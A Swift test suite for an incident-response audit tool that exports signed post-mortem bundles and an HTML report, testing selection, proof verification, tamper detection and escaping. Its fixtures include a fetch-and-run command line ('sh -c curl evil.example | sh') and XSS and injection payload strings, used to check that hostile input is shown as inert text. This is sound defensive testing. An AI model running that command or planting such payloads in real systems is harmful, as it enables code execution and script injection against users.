import Foundation
import FoundationXML
@testable import RiposteAudit
import RiposteCore
import RiposteTestSupport
import Testing

@Suite("bundles for post-mortems")
struct BundleTests {
    @Test("an incident's bundle has its records and all that are tied to them, and no others")
    func selection() throws {
        let fixture = try IncidentFixture()
        let bundle = try fixture.bundle()
        #expect(bundle.records.map(\.record.kind) == [.alert, .intent, .outcome, .intent, .outcome, .outcome, .run, .intent, .outcome, .config])
        #expect(bundle.records.count == fixture.count && bundle.records.last?.record.reason == "closed after review")
        let alert = try fixture.bundle(.alert(fixture.alert))
        #expect(alert.records.map(\.seq) == bundle.records.dropLast().map(\.seq), "what was only put under the incident is not the alert's")
        #expect(throws: BundleError("no record in the journal fits", isMissing: true)) { try fixture.bundle(.incident(.new())) }
    }

    @Test("a time brings what happened in it, and what that belongs to")
    func time() throws {
        let fixture = try IncidentFixture()
        let undo = IncidentFixture.start + .seconds(754)
        let bundle = try fixture.bundle(.time(since: undo, until: undo))
        #expect(bundle.records.count == fixture.count - 1, "an undo brings the deed, and that its run and alert")
        #expect(try fixture.bundle(.time(since: undo + .seconds(1), until: undo + .seconds(100))).records.count == 1)
    }

    @Test("each record is proved by the checkpoint after it, by a path that shows nothing of the others", arguments: ["folder", "archive.tar"])
    func roundTrip(name: String) throws {
        let fixture = try IncidentFixture()
        let bundle = try fixture.bundle()
        #expect(bundle.provedCount == bundle.records.count && bundle.checkpoints.count == 2)
        let path = "\(fixture.journal.folder.path)/\(name)"
        try bundle.write(to: path)
        let report = try fixture.verify(path)
        #expect(report.isIntact && report.anchored == fixture.count && report.records == fixture.count && report.remarks.isEmpty, "\(report)")
        let withoutKey = try fixture.verify(path, keys: [])
        #expect(withoutKey.isIntact && withoutKey.anchored == 0)
        #expect(try fixture.verify(path, keys: [SigningKey().verifyingKey]).problems.contains { $0.contains("another key") })
        #expect(try fixture.verify(path, version: "9").remarks.contains { $0.contains("1.2.3") })
        #expect(throws: (any Error).self) { try bundle.write(to: path) }
        let text = String(decoding: bundle.bytes(of: .proof), as: UTF8.self) + String(decoding: bundle.bytes(of: .records), as: UTF8.self)
        #expect(!text.contains("noise"))
    }

    @Test("a folder is there whole or not at all, and replaces nothing")
    func folder() throws {
        let fixture = try IncidentFixture()
        let parent = fixture.journal.folder.path + "/exports"
        try FileManager.default.createDirectory(atPath: parent, withIntermediateDirectories: false)
        let bundle = try fixture.bundle()
        for (name, make) in [
            ("empty", { try FileManager.default.createDirectory(atPath: $0, withIntermediateDirectories: false) }), ("file", { try Data().write(to: URL(fileURLWithPath: $0)) }),
            ("dangling", { try FileManager.default.createSymbolicLink(atPath: $0, withDestinationPath: "nowhere") }),
        ] as [(String, (String) throws -> Void)] {
            try make("\(parent)/\(name)")
            let error = #expect(throws: BundleError.self) { try bundle.write(to: "\(parent)/\(name)/") }
            #expect(error?.message.contains("name a new one") == true)
        }
        #expect(throws: BundleError.self) { try bundle.write(to: "\(parent)/missing/new") }
        #expect(try FileManager.default.contentsOfDirectory(atPath: parent).sorted() == ["dangling", "empty", "file"])
        #expect(try FileManager.default.contentsOfDirectory(atPath: parent + "/empty").isEmpty)
        try bundle.write(to: parent + "/new/")
        #expect(try fixture.verify(parent + "/new").isIntact)
        #expect(try FileManager.default.attributesOfItem(atPath: parent + "/new")[.posixPermissions] as? Int == 0o700)
    }

    @Test("other programs read the archive")
    func tar() throws {
        let fixture = try IncidentFixture()
        let path = fixture.journal.folder.path + "/a.tar"
        try fixture.bundle().write(to: path)
        let (status, listing) = try run(["tar", "-tvf", path])
        #expect(status == 0 && AuditBundle.File.allCases.allSatisfy { listing.contains($0.rawValue) }, "\(listing)")
        #expect(try run(["tar", "-xOf", path, "records.jsonl"]).output == String(decoding: try fixture.bundle().bytes(of: .records), as: UTF8.self))
    }

    @Test("a journal that is not signed gives a bundle that says so, and does not pass with a key")
    func unsigned() throws {
        let fixture = try IncidentFixture(signed: false)
        let bundle = try fixture.bundle()
        #expect(bundle.provedCount == 0 && bundle.checkpoints.isEmpty)
        let path = fixture.journal.folder.path + "/b"
        try bundle.write(to: path)
        #expect(try fixture.verify(path, keys: []).isIntact)
        #expect(try fixture.verify(path).problems.first?.contains("not proved by a checkpoint") == true)
    }

    @Test("records after the last checkpoint are not proved yet")
    func tail() throws {
        let fixture = try IncidentFixture()
        try fixture.journal.write(1, andLoose: 3)
        let bundle = try fixture.bundle(.time(since: IncidentFixture.start + .seconds(800), until: nil))
        #expect(bundle.provedCount > 0 && bundle.provedCount == bundle.records.count - 3)
    }

    @Test(
        "every change to a bundle is found",
        arguments: [
            ("records.jsonl", "process.suspend", "process.pretend", "its hash does not fit"), ("records.jsonl", "{\"seq\":8,", "{\"seq\":9,", "its hash does not fit"),
            ("records.jsonl", "{\"seq\"", "{\"sec\"", "this is no record"), ("checkpoints.jsonl", "\\nseq ", "\\nseq 1", "its hash does not fit"),
            ("proof.jsonl", "\"left\":\"", "\"left\":\"0", "this is no proof"), ("proof.jsonl", "\"seq\":8,", "\"seq\":16,", "is not among those"),
            ("proof.jsonl", "{\"seq\":8,", "{\"seq\":7,", "is of no record here"), ("summary.json", "mia", "eve", "it was changed"),
            ("report.html", "mia", "eve", "it was changed"),
            ("summary.json", "riposte-bundle-v1", "riposte-bundle-v0", "no summary"), ("summary.json", "\"riposte\":\"1.2.3\"", "\"riposte\":\"1.2.4\"", ""),
        ])
    func tampering(file: String, old: String, new: String, words: String) throws {
        let fixture = try IncidentFixture()
        let path = fixture.journal.folder.path + "/b"
        try fixture.bundle().write(to: path)
        let text = try String(contentsOfFile: "\(path)/\(file)", encoding: .utf8)
        let changed = text.replacing(old, with: new, maxReplacements: 1)
        try #require(changed != text)
        try Data(changed.utf8).write(to: URL(fileURLWithPath: "\(path)/\(file)"))
        let report = try fixture.verify(path)
        if words.isEmpty {
            #expect(report.remarks.contains { $0.contains("not looked at") })
        } else {
            #expect(report.problems.contains { $0.contains(words) }, "\(report)")
        }
    }

    @Test("a record that was put in, with a right hash, has no proof; one that was left out between neighbours is missed")
    func forged() throws {
        let fixture = try IncidentFixture()
        let path = fixture.journal.folder.path + "/b"
        let bundle = try fixture.bundle()
        let last = try #require(bundle.records.last)
        let forged = JournalLine.encode(SignedJournal.record("never was"), seq: last.seq + 1, prev: last.hash)
        let entry = try #require(JournalLine.decode(forged.line))
        try AuditBundle(header: bundle.header, records: bundle.records + [entry], checkpoints: bundle.checkpoints, proofs: bundle.proofs).write(to: path)
        #expect(
            try fixture.verify(path).problems == [
                "1 of 11 records are not proved by a checkpoint: they were put in, or exported before a checkpoint signed them; then export again"
            ])
        // With the proof of another it fits that one's place only.
        var proofs = bundle.proofs
        proofs.append(.init(seq: entry.seq, checkpoint: proofs[0].checkpoint, path: proofs[0].path))
        try AuditBundle(header: bundle.header, records: bundle.records + [entry], checkpoints: bundle.checkpoints, proofs: proofs).write(to: path + "2")
        #expect(try fixture.verify(path + "2").problems.contains { $0.contains("is not among those") })
    }

    @Test("no byte of records, checkpoints or proofs can be changed unseen")
    func everyByte() throws {
        let fixture = try IncidentFixture()
        let path = fixture.journal.folder.path + "/b"
        try fixture.bundle().write(to: path)
        for (file, step) in [("proof.jsonl", 7), ("checkpoints.jsonl", 29), ("records.jsonl", 61)] {
            let whole = Array(try #require(FileManager.default.contents(atPath: "\(path)/\(file)")))
            for place in stride(from: 0, to: whole.count, by: step) {
                var changed = whole
                changed[place] ^= 1
                try Data(changed).write(to: URL(fileURLWithPath: "\(path)/\(file)"))
                // As another version: what follows from the records is not made again each time.
                #expect(try !fixture.verify(path, version: "9").isIntact, "\(file), byte \(place)")
            }
            try Data(whole).write(to: URL(fileURLWithPath: "\(path)/\(file)"))
        }
        #expect(try fixture.verify(path).isIntact)
    }

    @Test("a bundle of somebody else's making may hold any numbers: it is broken, and the verifier goes on", arguments: [Int64.min, -1, 0, .max - 1, .max])
    func foreignNumbers(number: Int64) throws {
        let fixture = try IncidentFixture()
        let bundle = try fixture.bundle()
        let checkpoint = try #require(bundle.checkpoints.first.flatMap { SignedCheckpoint($0.record) })
        for (file, record) in [("checkpoints.jsonl", checkpoint.auditRecord), ("records.jsonl", SignedJournal.record("x"))] {
            let path = fixture.journal.folder.path + "/\(file)"
            try bundle.write(to: path)
            let line = JournalLine.encode(record, seq: number, prev: JournalLine.origin).line
            try Data(line + [UInt8(ascii: "\n")]).write(to: URL(fileURLWithPath: "\(path)/\(file)"))
            let report = try fixture.verify(path, keys: [])
            #expect(!report.isIntact)
            if number != .max - 1 { #expect(report.problems.contains("\(file), line 1: this is no record")) }
        }
    }

    @Test("what is no bundle is said to be none")
    func noBundle() throws {
        let folder = try TemporaryFolder()
        for (path, isMissing) in [(folder.path + "/none", true), (folder.path, false), (try folder.file("x.tar", "no archive"), false)] {
            let error = try #require(throws: BundleError.self) { try BundleVerifier(path: path, version: "1").verify() }
            #expect(error.isMissing == isMissing && error.message.contains(path))
        }
        let fixture = try IncidentFixture()
        let path = fixture.journal.folder.path + "/b"
        try fixture.bundle().write(to: path)
        try Data().write(to: URL(fileURLWithPath: path + "/note\u{1B}[2J.txt"))
        #expect(try fixture.verify(path).remarks == ["note\\x1b[2J.txt: does not belong here"])
    }

    @Test("the summary tells the incident in figures and in order")
    func summary() throws {
        let fixture = try IncidentFixture()
        let summary = try JSON(parsing: try fixture.bundle().bytes(of: .summary))
        #expect(summary["host"] == "web-7" && summary["counts"]?["alerts"] == 1 && summary["counts"]?["actions"] == 4 && summary["counts"]?["in_force"] == 1)
        #expect(summary["counts"]?["outcomes"] == ["done": 2, "refused": 1, "undone": 1])
        #expect(summary["targets"]?.array?.map { $0["summary"] } == ["process 4711 (sh)", "container web (abababababab)"])
        let actions = try #require(summary["actions"]?.array)
        #expect(actions.map { $0["action"] } == ["process.suspend", "container.isolate", "process.kill", "process.resume"])
        #expect(actions[0]["undo"]?["state"] == "taken back" && actions[0]["undo"]?["taken_back_by"] == .text("\(fixture.undo)"))
        #expect(actions[1]["undo"]?["state"] == "in force" && actions[2]["class"] == "guarded")
        #expect(actions[0]["remarks"]?.array?.count == 2, "what guards and budget said")
        #expect(summary["persons"]?.array?.last?["name"] == "mia" && summary["persons"]?.array?.last?["reason"] == "known job of the web team")
        #expect(
            summary["timeline"]?.array?.map { $0["kind"]?.string?.repaired ?? "" } == [
                "alert", "intent", "outcome", "intent", "outcome", "outcome", "other", "intent", "undo", "other",
            ])
        #expect(summary["journal"]?["proved"] == 10)
    }
}

@Suite("the report's page")
struct ReportTests {
    @Test("it names what happened, to whom, by whom, and how to verify it")
    func content() throws {
        let fixture = try IncidentFixture()
        let page = ReportPage(try fixture.bundle()).html
        for words in [
            "Run shell in web server", "Critical", "web-7", "process.suspend", "container web", "known job of the web team", "mia (uid 1001)", "taken back 2026-05-28",
            "in force, due back",
            "class: guarded", "sshd is protected (guards.processes)", "riposte audit verify --bundle", "containerd-shim", "pid not told", "sh -c curl evil.example | sh", "+13 m",
        ] { #expect(page.contains(words), "\(words)") }
    }

    @Test(
        "what an attacker wrote stays text",
        arguments: [
            "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "</title></style><script>1</script>", "';--", "&lt;b&gt;", "\u{1B}[31mred\u{1B}[0m", "\u{202E}gpj.exe",
            "\u{2066}x\u{2069}\u{200B}", "a\nb\r\u{2028}c", "<!--", "]]>", "javascript:alert(1)", "\u{0}",
        ])
    func hostile(value: String) throws {
        let hostile = JSON.text(value)
        let fixture = try IncidentFixture(
            with: [
                "rule": hostile, "output": hostile, "message": hostile, "proc.name": hostile, "proc.cmdline": hostile, "proc.pname": hostile, "proc.aname[2]": hostile,
                "user.name": hostile,
                "container.name": hostile,
            ], playbook: value)
        let bundle = try fixture.bundle()
        let page = ReportPage(bundle).html
        #expect(
            !page.contains("<script") && !page.contains("<img") && !page.contains("<!--") && !page.contains("\u{202E}") && !page.contains("\u{1B}") && !page.contains("\u{200B}"))
        #expect(page.contains(value.escapedForHTML), "it is shown all the same")
        // Well-formed, as a strict reader sees it, with the very elements of a harmless report: nothing was opened, closed or broken.
        #expect(try Elements.count(in: page) == Elements.count(in: ReportPage(try IncidentFixture().bundle()).html))
        #expect(try JSON(parsing: bundle.bytes(of: .summary))["alerts"]?.array?.first?["rule"] == .text(value.escapedForDisplay))
    }

    @Test("bytes that are no UTF-8, and a command line of a megabyte, are cut and escaped; the records have them whole")
    func excess() throws {
        let long = ByteText(Array(repeating: UInt8(ascii: "x"), count: 1 << 20))
        let fixture = try IncidentFixture(with: ["proc.cmdline": .string(long), "output": "h??i", "proc.name": "??"], raw: (Array("??".utf8), [0xFF, 0xC3]))
        let bundle = try fixture.bundle()
        let page = bundle.bytes(of: .report)
        #expect(page.count < 200_000)
        let text = try #require(String(validating: page, as: UTF8.self))
        #expect(text.contains("h\\xff\\xc3i") && text.contains("… (1048576 bytes)"))
        #expect(bundle.bytes(of: .records).count > 1 << 20)
    }

    @Test("the policy forbids all but the page's own style, by its hash, and nothing is fetched")
    func policy() throws {
        let page = ReportPage(try IncidentFixture().bundle()).html
        #expect(page.contains("default-src &#39;none&#39;; style-src &#39;sha256-"))
        #expect(!page.contains("http://") && !page.contains("https://") && !page.contains("url(") && !page.contains(" style=") && !page.contains("src="))
    }

    @Test("a ring of parents, as only a forged alert tells of it, is drawn as far as it can be")
    func ring() throws {
        let fixture = try IncidentFixture(with: ["proc.ppid": 4711, "proc.apid[2]": 4711, "proc.apid[3]": 4712, "proc.apid[4]": 4711])
        let tree = ProcessTree(IncidentStory(try fixture.bundle().records))
        #expect(tree.rows.count == tree.nodes.count)
    }

    @Test("parents stand over children, with what was told of them and done to them")
    func tree() throws {
        let rows = ProcessTree(IncidentStory(try IncidentFixture().bundle().records)).rows
        #expect(rows.map { "\($0.depth) \($0.node.name) \($0.node.pid.map(String.init) ?? "-")" } == ["0 containerd-shim -", "1 nginx 4690", "2 nginx 4700", "3 sh 4711"])
        #expect(rows.last?.node.alerts == ["Run shell in web server"])
        #expect(rows.last?.node.deeds.map(\.name) == ["process.suspend", "process.kill", "process.resume"])
    }

    @Test(
        "durations are told in one unit",
        arguments: [
            (0, "0 µs"), (420, "420 µs"), (1800, "1.8 ms"), (12_000, "12 ms"), (1_000_000, "1 s"), (754_000_000, "13 m"), (5_400_000_000, "1.5 h"), (172_800_000_000, "2 d"),
        ])
    func durations(microseconds: Int, text: String) { #expect(Duration.microseconds(microseconds).brief == text) }

    @Test("later is further right, whatever the distance; the same moment is the same place")
    func scale() {
        let times = [0, 1, 1_000_000, 3_600_000_000_000].map { Timestamp(nanoseconds: $0) }
        let scale = TimeScale(times + [times[1]], width: 100)
        let places = times.map(scale.place)
        #expect(places == places.sorted() && Set(places).count == 4 && places.first == 0 && abs((places.last ?? 0) - 100) < 0.001)
        #expect(TimeScale([times[0]], width: 100).place(times[0]) == 50)
    }
}

/// How often each element stands in a page, by a parser that takes nothing but well-formed markup.
private enum Elements {
    static func count(in page: String) throws -> [String: Int] {
        let counter = Counter()
        // The doctype and elements without end are HTML's own.
        let text = page.replacing("<!DOCTYPE html>", with: "").replacing(/<meta ([^>]*)>/) { "<meta \($0.1)/>" }
        let parser = XMLParser(data: Data(text.utf8))
        parser.delegate = counter
        try #require(parser.parse(), "\(parser.parserError.map(String.init(describing:)) ?? "")")
        return counter.counts
    }

    private final class Counter: NSObject, XMLParserDelegate {
        var counts: [String: Int] = [:]

        func parser(
            _ parser: XMLParser, didStartElement elementName: String, namespaceURI: String?, qualifiedName: String?, attributes: [String: String] = [:]
        ) { counts[elementName, default: 0] += 1 }
    }
}
